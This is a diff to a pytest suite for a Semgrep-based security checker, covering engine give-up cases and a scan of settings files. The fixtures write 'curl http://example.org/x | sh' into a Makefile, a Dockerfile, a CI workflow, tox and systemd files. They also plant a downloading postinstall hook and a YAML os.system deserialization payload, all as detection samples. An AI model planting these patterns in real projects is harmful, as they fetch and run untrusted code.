@@ -19,6 +19,18 @@ FIXTURE = Path(__file__).parents[1] / "fixtures" / "checkers" / "semgrep"
 SEEDED = hashlib.sha256(b"a made-up token").hexdigest()[:36]
 
 
+SHELL = "    os.system('lp -T ' + {})\n"
+WIDE = "import os\n\n\ndef label(name):\n" + "".join(f"    x{n} = name\n" for n in range(150)) + SHELL.format("x149")
+"""More variables than the engine follows when it is left to itself."""
+TANGLE = "def label(name):\n    x = name\n    while x:\n" + "".join(
+    f"        x = [x, '{n}' + str(x), name]\n        y{n} = x\n" for n in range(400)
+)
+ENTANGLED = "import os\n\n\n" + TANGLE + SHELL.format("x")
+"""A function that the engine gives up on after a tenth of a second, whatever it is told."""
+HARMLESS = "import os\n\n\n" + TANGLE + "    return x\n\n\ndef clean():\n    os.system('true')\n"
+"""It gives up on this one too, and its command lines are elsewhere."""
+
+
 @pytest.fixture(scope="module")
 def looked(tmp_path_factory: pytest.TempPathFactory) -> CheckResult:
     """The sample, with a made-up token in code, and files that are hard to read."""
@@ -30,6 +42,8 @@ def looked(tmp_path_factory: pytest.TempPathFactory) -> CheckResult:
     (delivery / "two\nlines.py").write_text("x = eval(y)\n", encoding="utf-8")
     (delivery / "latin.py").write_bytes(b"# -*- coding: latin-1 -*-\nname = '\xe9'\n")
     (delivery / "big.py").write_text("x = 1\n" * 200_000, encoding="utf-8")
+    for name, text in {"wide.py": WIDE, "entangled.py": ENTANGLED, "harmless.py": HARMLESS}.items():
+        (delivery / name).write_text(text, encoding="utf-8")
     (delivery / "link.py").symlink_to("app.py")
     return checked.run(Semgrep(), checked.checkout(delivery), folder / "workspace")
 
@@ -49,9 +63,27 @@ def test_what_was_examined_is_exactly_the_code_that_was_read(looked: CheckResult
     """With `.semgrepignore`, `.gitignore`, an odd extension, no extension, a megabyte: all read."""
     assert looked.seen.trouble is None
     sample = {"app.py", "window.pyw", "get", "web/ping.js", "web/page.tsx"}
-    assert looked.seen.examined == sample | {"set.py", "two\nlines.py", "latin.py", "big.py"}
+    more = {"set.py", "two\nlines.py", "latin.py", "big.py", "wide.py", "harmless.py"}
+    assert looked.seen.examined == sample | more
     skipped = {one.path: one.skip for one in looked.seen.not_examined}
-    assert skipped == {"broken.py": Skip.UNPARSABLE, "web/broken.js": Skip.TOOL, "torn.js": Skip.TOOL}
+    tool = dict.fromkeys(("web/broken.js", "torn.js", "entangled.py"), Skip.TOOL)
+    assert skipped == {"broken.py": Skip.UNPARSABLE, **tool}
+
+
+def test_a_function_with_many_variables_is_followed_to_its_end(looked: CheckResult) -> None:
+    rule = "semgrep:shell-built-from-argument"
+    assert [one.line for one in looked.seen.findings if (one.path, one.rule) == ("wide.py", rule)] == [155]
+
+
+def test_a_function_that_the_engine_gives_up_on_is_not_examined_where_harm_could_be_done_in_it(
+    looked: CheckResult,
+) -> None:
+    """Whether a function without a command line in it takes the engine too long hangs on the machine, and matters to nobody."""
+    reasons = {one.path: one.reason for one in looked.seen.not_examined}
+    assert reasons["entangled.py"] == (
+        "semgrep gave up following values through the function at line 4, which is too long or too entangled"
+    )
+    assert "harmless.py" not in reasons
 
 
 def test_a_file_without_a_match_is_still_read() -> None:
@@ -89,6 +121,32 @@ def test_a_shell_script_that_semgrep_cannot_parse_is_searched_all_the_same(tmp_p
     seen = checked.run(Semgrep(), checked.checkout(delivery), tmp_path / "run").seen
     assert (seen.examined, seen.not_examined) == (frozenset({"set-up"}), ())
     assert "semgrep:sh-plain-download-to-shell" in {finding.rule for finding in seen.findings}
+
+
+def test_commands_in_settings_are_searched_and_are_no_code(tmp_path: Path) -> None:
+    fetched = "curl http://example.org/x | sh"
+    files = {
+        "Makefile": f"all:\n\t{fetched}\n",
+        "docker/Dockerfile": f"FROM python:3.12\nRUN {fetched}\n",
+        ".github/workflows/ci.yml": f"jobs:\n  a:\n    steps:\n      - run: {fetched}\n",
+        "package.json": '{"scripts": {"postinstall": "curl https://example.org/x -o x"}}\n',
+        "tox.ini": f'[testenv]\ncommands = sh -c "{fetched}"\n',
+        "deploy/label.service": f'[Service]\nExecStart=/bin/sh -c "{fetched}"\n',
+        "config.yaml": 'x: !!python/object/apply:os.system ["id"]\n',
+        "docs/notes.md": f"Do not run {fetched}\n",
+        "mkdocs.yml": "emoji_index: !!python/name:material.extensions.emoji.twemoji\n",
+    }
+    for name, text in files.items():
+        (tmp_path / "delivery" / name).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / "delivery" / name).write_text(text, encoding="utf-8")
+    seen = checked.run(Semgrep(), checked.checkout(tmp_path / "delivery"), tmp_path / "run").seen
+    found = {one.path: one.rule.removeprefix("semgrep:") for one in seen.findings if one.severity == "error"}
+    plain = dict.fromkeys(sorted({*files} - {"package.json", "config.yaml", "docs/notes.md", "mkdocs.yml"}))
+    assert found == dict.fromkeys(plain, "sh-plain-download-to-shell") | {
+        "package.json": "sh-install-hook-network",
+        "config.yaml": "yaml-object-runs",
+    }
+    assert seen.examined == frozenset()
 
 
 def _answered(*files: File, **answer: object) -> ToolOutput:
